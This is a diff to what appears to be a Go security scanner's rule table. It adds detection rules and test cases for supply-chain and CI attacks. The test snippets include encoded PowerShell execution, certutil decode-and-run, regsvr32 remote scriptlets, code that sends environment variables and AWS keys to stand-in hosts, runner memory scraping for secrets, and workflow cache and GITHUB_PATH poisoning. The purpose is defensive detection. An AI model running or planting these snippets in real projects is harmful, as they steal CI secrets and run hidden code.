@@ -50,6 +50,11 @@ var rules = []Rule{
 			{"x.sh", "echo $P | base64 -d > /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x", 3, false},
 			{"x.js", "const s = Buffer.from(h, 'hex').toString()\nconst m = new module.constructor()\nm._compile(s, 'x.js')", 3, false},
 			{"x.sh", "echo aGkK | base64 -d > out.txt", 0, true},
+			{".github/workflows/w.yml", "jobs:\n  b:\n    steps:\n      - shell: pwsh\n        run: |\n          $s = 'SQBFAFgA'\n          Start-Process powershell -ArgumentList '-NoProfile', '-EncodedCommand', $s", 7, false},
+			{"x.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", 0, false},
+			{"build.bat", "certutil -decode tools\\cfg.txt %TEMP%\\u.exe && %TEMP%\\u.exe", 0, false},
+			{"x.ps1", "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))).Invoke()", 0, false},
+			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", whyDownload, []Case{
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
@@ -68,6 +73,34 @@ var rules = []Rule{
 			{"x.sh", "cfg='sed r $f | eval $map | $dec -d'", 0, false},
 			{"x.sh", "eval \"$(ssh-agent -s)\"", 0, true},
 		}},
+	{"dll-entry-run", KindExecute, High, "runs a library's code through a Windows loader (rundll32, regsvr32)",
+		"the loader calls an entry point of a DLL nobody can read in the diff, often one named like data (a .db, a .dat), on the machine that builds or installs", []Case{
+			{"install.js", "const dll = path.join(__dirname, 'node-gyp.dll')\nspawn('rundll32', [dll + ',main'], { detached: true })", 2, false},
+			{"x.vcxproj", "<PreBuildEvent>\n  <Command>rundll32 $(ProjectDir)Release\\Browse.VC.db,ENGINE_get_RAND</Command>\n</PreBuildEvent>", 2, false},
+			{"x.bat", "regsvr32 /s /i:http://x.invalid/s.sct scrobj.dll", 0, false},
+			// Opening a URL in the default browser, as CLIs do.
+			{"open.go", "exec.Command(\"rundll32\", \"url.dll,FileProtocolHandler\", u).Start()", 0, true},
+		}},
+	{"native-load", KindExecute, Medium, "loads a native library (a DLL, .so or .node file)",
+		"a native library runs whatever machine code it holds, which the diff cannot show; in code that runs by itself (an install script, a linter's config) nobody has to call it", []Case{
+			{"lib/x.js", "const b = require('./build/Release/x.node')", 0, false},
+			{"x.py", "lib = ctypes.CDLL('./libfast.so')", 0, false},
+		}},
+	{"build-tool-exec", KindBuildFile, High, "a build tool's config names a program from the tree to run in its place",
+		"every build, test or install then runs that program (cargo's rustc-wrapper and linker, npm's script-shell and node-options), with the runner's network and secrets", []Case{
+			{".cargo/config.toml", "[build]\nrustc-wrapper = \"./tools/wrap.sh\"", 2, false},
+			{".cargo/config.toml", "[build]\nrustc-wrapper = \"/tmp/.cache/rw\"", 2, false},
+			{".cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\nrustflags = [\"-C\", \"link-arg=-fuse-ld=mold\"]", 2, true},
+			{".cargo/config.toml", "[build]\nrustc-wrapper = \"sccache\"", 2, true},
+			{".npmrc", "node-options=--require ./scripts/hook.js", 0, false},
+			{".npmrc", "script-shell=./tools/sh", 0, false},
+			{".npmrc", "engine-strict=true", 0, true},
+		}},
+	{"powershell-hidden", KindExecute, High, "starts PowerShell with a hidden window to run a command",
+		"a build or install step has no window to hide; hiding one keeps what runs out of sight of whoever is at the machine", []Case{
+			{"x.vcxproj", "<Command>powershell.exe -nop -w hidden -c \"iex (gc x.txt)\"</Command>", 0, false},
+			{"x.ps1", "pwsh -NoProfile -Command Get-Date", 0, true},
+		}},
 	{"vendor-installer", KindDownload, Medium, "runs a vendor's installer fetched from the vendor's own host",
 		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
 			{"Dockerfile", "FROM debian:12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", 0, false},
@@ -82,6 +115,11 @@ var rules = []Rule{
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
 			{"x.py", "import os, requests\nrequests.get('https://x.invalid/c?d=' + str(os.environ))", 2, false},
 			{"x.py", "import os, requests\nrequests.get('https://api.x.invalid/v1', headers={'X-Key': os.environ['API_KEY']})", 2, true},
+			{"x.js", "const https = require('https')\nconst info = {\n  cwd: process.cwd(),\n  env: process.env,\n}\nconst body = JSON.stringify(info)\nconst req = https.request({ hostname: 'x.invalid', method: 'POST' })\nreq.end(body)", 7, false},
+			{"x.py", "import os, base64, requests\nacc = ''\nfor k, v in os.environ.items():\n    acc += k + '=' + v\nenc = base64.b64encode(acc.encode())\nrequests.get('https://x.invalid/p/' + enc.decode())", 6, false},
+			{"x.php", "<?php\n$k = getenv('AWS_SECRET_ACCESS_KEY');\n@file_get_contents('https://x.invalid/k/' . base64_encode($k));", 3, false},
+			// An API key in the query of the API it belongs to.
+			{"x.py", "import os, requests\nkey = os.environ['MAPS_API_KEY']\nrequests.get(f'https://maps.x.invalid/geocode?key={key}&q=x')", 3, true},
 		}},
 	{"dns-exfiltration", KindCredential, High, "looks up a host name built from data (DNS exfiltration)",
 		"the name carries the machine's identity or secrets to whoever runs the domain's DNS, past any firewall that lets lookups through", []Case{
@@ -132,6 +170,19 @@ var rules = []Rule{
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
 			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
 		}},
+	{"install-background-process", KindExecute, High, "starts a detached background process from code that runs at install or build",
+		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
+			{"setup_bun.js", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -2,3 +2,4 @@\n   \"scripts\": {\n+    \"preinstall\": \"node setup_bun.js\",\n     \"test\": \"jest\"\n   },\ndiff --git a/setup_bun.js b/setup_bun.js\nnew file mode 100644\n--- /dev/null\n+++ b/setup_bun.js\n@@ -0,0 +1,3 @@\n+const { spawn } = require('child_process')\n+const p = require('path')\n+spawn('bun', [p.join(__dirname, 'env.js')], { detached: true, stdio: 'ignore' }).unref()\n", 3, false},
+			{"setup.py", "import subprocess\nsubprocess.Popen(['python', 'agent.py'], start_new_session=True)", 2, false},
+			// A CLI that checks for updates in the background is not run at install.
+			{"lib/cli.js", "const { spawn } = require('child_process')\nspawn(process.execPath, [check], { detached: true }).unref()", 2, true},
+		}},
+	{"import-time-process", KindExecute, High, "starts a process when the package is imported",
+		"a package's __init__.py runs at every import, in every test and tool that loads it; a program it starts is not in the diff", []Case{
+			{"pkg/__init__.py", "import os, subprocess\n_bin = os.path.join(os.path.dirname(__file__), 'bin', 'x')\nif os.path.exists(_bin):\n    subprocess.Popen([_bin])", 4, false},
+			{"pkg/__init__.py", "import subprocess\ndef run(args):\n    return subprocess.run(args)", 3, true},
+			{"pkg/__init__.py", "import subprocess\ntry:\n    __version__ = subprocess.check_output(['git', 'describe']).decode()\nexcept Exception:\n    __version__ = '0'", 3, true},
+		}},
 	{"npm-lifecycle-runs", KindScript, High, "npm lifecycle script downloads, decodes or runs inline code",
 		"npm runs it at install on the runner, before any test, and what it runs is not in the diff", []Case{
 			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.invalid/i | sh\"\n  }\n}", 3, false},
@@ -158,6 +209,9 @@ var rules = []Rule{
 			{"x.sh", "sudo gcore -o /tmp/w $(pgrep -f Runner.Worker)", 0, false},
 			{"x.py", "pid = subprocess.check_output(['pgrep', '-f', 'Runner.Worker']).strip()\nmaps = open(f'/proc/{pid}/maps')", 1, false},
 			{"x.sh", "echo 'Runner.Worker started'", 0, true},
+			{"x.sh", "grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' /tmp/w.bin | sort -u", 0, false},
+			{"Secrets.cs", "if (variable.IsSecret) { masker.Add(variable.Value); }", 0, true},
+			{"x.sh", "W=$(pgrep -f Runner.Worker | head -n1)\necho ok\nsudo python3 tools/warm.py \"$W\" > /tmp/w.bin", 3, false},
 		}},
 	{"runner-action-cache", KindRunner, High, "writes into the runner's action or tool cache",
 		"a later step, or a later job on the same runner, runs the changed code in place of the action it names", []Case{
@@ -168,6 +222,13 @@ var rules = []Rule{
 		"a privileged workflow that restores the cache then runs what the pull request put in it", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 9, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 6, true},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -8,2 +8,7 @@ jobs:\n       - run: npm ci\n+      - run: echo 'module.exports = 1' >> node_modules/left-pad/index.js\n+      - uses: actions/cache/save@v4\n+        with:\n+          path: node_modules\n+          key: deps-${{ hashFiles('package-lock.json') }}\n       - run: npm test\n", 10, false},
+		}},
+	{"dependency-tamper", KindBuildFile, Medium, "writes into an installed dependency's files",
+		"the next step that loads the dependency runs what was written, which no lock file describes; a cache saved after it hands the change to the workflows that restore it", []Case{
+			{"x.sh", "npm ci\nprintf 'require(\"./x\")\\n' >> node_modules/esbuild/install.js", 2, false},
+			{"x.sh", "sed -i 's/a/b/' .venv/lib/python3.12/site-packages/six.py", 0, false},
+			{"x.sh", "rm -rf node_modules/.cache\necho ok > node_modules/.yarn-integrity", 2, true},
 		}},
 	{"gha-pr-code-run", KindRunner, High, "runs the pull request's code in a privileged workflow",
 		"after the checkout of the pull request's head, this step installs, builds or runs what the pull request wrote, with the repository's write token and secrets", []Case{
@@ -176,6 +237,17 @@ var rules = []Rule{
 			// Without a checkout of the head the base branch's own code runs.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test", 7, true},
 			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 9, true},
+		}},
+	{"gha-artifact-credentials", KindCredential, High, "uploads the checkout's .git folder (with the job's token) or a credential file as an artifact",
+		"actions/checkout leaves the job's token in .git/config; whoever can read the run downloads the artifact and uses the token while the job still runs (ArtiPACKED)", []Case{
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v4\n        with:\n          name: all\n          path: .\n          include-hidden-files: true", 11, false},
+			// Before v4 an artifact was downloadable only after the run, when the token had expired.
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v3\n        with:\n          path: ${{ github.workspace }}", 8, true},
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: |\n            dist\n            ~/.docker/config.json", 10, false},
+			// v4.4 and later leave hidden files out; persist-credentials: false keeps no token.
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: .", 8, true},
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - uses: actions/upload-artifact@v4\n        with:\n          path: .\n          include-hidden-files: true", 13, true},
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: coverage/\n          include-hidden-files: true", 9, true},
 		}},
 	{"gha-artifact-run", KindRunner, High, "runs a file from an artifact in a privileged workflow",
 		"the artifact was made by the pull request's own run; here it runs with the write token and secrets", []Case{
@@ -241,6 +313,16 @@ var rules = []Rule{
 			{"Dockerfile", "FROM golang:1.23\nRUN git config --global url.https://git.x.invalid/.insteadOf https://github.com/", 2, false},
 			{"x.sh", `git config --global url."https://${TOKEN}@github.com/".insteadOf "https://github.com/"`, 0, true},
 			{"x.sh", `git config --global url."git@github.com:".insteadOf "https://github.com/"`, 0, true},
+			{".cargo/config.toml", "[source.crates-io]\nreplace-with = \"m\"\n\n[source.m]\nregistry = \"sparse+https://index.crates-mirror.invalid/\"", 5, false},
+			{".cargo/config.toml", "[registries.corp]\nindex = \"https://git.corp.invalid/index\"", 2, false},
+			// cargo vendor: the crates are in the tree.
+			{".cargo/config.toml", "[source.crates-io]\nreplace-with = \"vendored-sources\"\n\n[source.vendored-sources]\ndirectory = \"vendor\"", 5, true},
+			{".cargo/config.toml", "[source.crates-io]\nregistry = \"sparse+https://index.crates.io/\"", 2, true},
+			{"x.sh", "poetry source add --priority=primary corp https://pypi.corp-mirror.invalid/simple/", 0, false},
+			{"x.sh", "gem sources --add https://gems.x.invalid/", 0, false},
+			{"x.ps1", "dotnet nuget add source https://nuget.x.invalid/v3/index.json -n x", 0, false},
+			{"x.sh", "bundle config mirror.https://rubygems.org https://gems.x.invalid", 0, false},
+			{"x.sh", "poetry source add --priority=supplemental torch https://download.pytorch.org/whl/cpu", 0, true},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
@@ -312,9 +394,20 @@ var rules = []Rule{
 	{"gha-self-hosted", KindCIFile, Medium, "runs on a self-hosted runner",
 		"a self-hosted runner keeps what a job leaves behind and sits inside the project's network", nil},
 	{"gha-env-hijack", KindExecute, High, "sets a variable that makes later steps load code (LD_PRELOAD, NODE_OPTIONS, BASH_ENV)",
-		"every later step of the job, the ones with secrets included, loads what it names", nil},
+		"every later step of the job, the ones with secrets included, loads what it names", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - shell: pwsh\n        run: |\n          \"NODE_OPTIONS=--require ./x.js\" | Out-File -Append $env:GITHUB_ENV", 6, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.exportVariable('NODE_OPTIONS', '--require ./x.js')", 7, false},
+			{"scripts/ci-env.js", "fs.appendFileSync(process.env.GITHUB_ENV, `LD_PRELOAD=${lib}\\n`)", 0, false},
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.exportVariable('CI_SHA', context.sha)", 7, true},
+		}},
 	{"gha-github-env-privileged", KindExecute, High, "writes GITHUB_ENV or GITHUB_PATH in a privileged workflow",
-		"on pull_request_target or workflow_run, what the pull request puts there runs in every later step with the write token", nil},
+		"on pull_request_target or workflow_run, what the pull request puts there runs in every later step with the write token", []Case{
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          path: pr\n      - run: echo \"$GITHUB_WORKSPACE/pr/bin\" >> \"$GITHUB_PATH\"", 10, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -12,3 +12,4 @@ jobs:\n         with:\n           ref: ${{ github.event.pull_request.head.sha }}\n           path: head\n+      - run: echo \"${{ github.workspace }}/head/scripts\" >> $GITHUB_PATH\n", 15, false},
+			// Without the head checked out, the workspace holds the base branch's own files.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 7, true},
+			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 9, true},
+		}},
 	{"gha-github-env", KindExecute, Low, "writes GITHUB_ENV or GITHUB_PATH",
 		"later steps of the job run with what it writes", nil},
 	{"secret-exfiltration", KindCredential, High, "sends a secret over the network",
@@ -410,6 +503,11 @@ var rules = []Rule{
 		[]Case{{"x.py", "exec(code)", 0, false}}},
 	{"network", KindNetwork, Medium, "opens a network connection", "check where it connects and what it sends",
 		[]Case{{"x.py", "s = socket.socket()", 0, false}}},
+	{"build-event", KindBuildFile, Medium, "MSBuild runs a command at build (pre/post-build event, Exec task)",
+		"Visual Studio and msbuild run it on every build of the project, with the builder's rights", []Case{
+			{"x.csproj", "<Target Name=\"B\" BeforeTargets=\"Build\">\n  <Exec Command=\"dotnet tool restore\" />\n</Target>", 2, false},
+			{"x.vcxproj", "<PostBuildEvent>", 0, false},
+		}},
 	{"gitattributes-filter", KindBuildFile, Medium, "names a git filter or driver",
 		"git runs the filter or driver a git config defines for it on checkout and diff", nil},
 	{"gitmodules-url", KindDependency, Medium, "submodule URL", "a recursive checkout fetches and checks out code from it", nil},
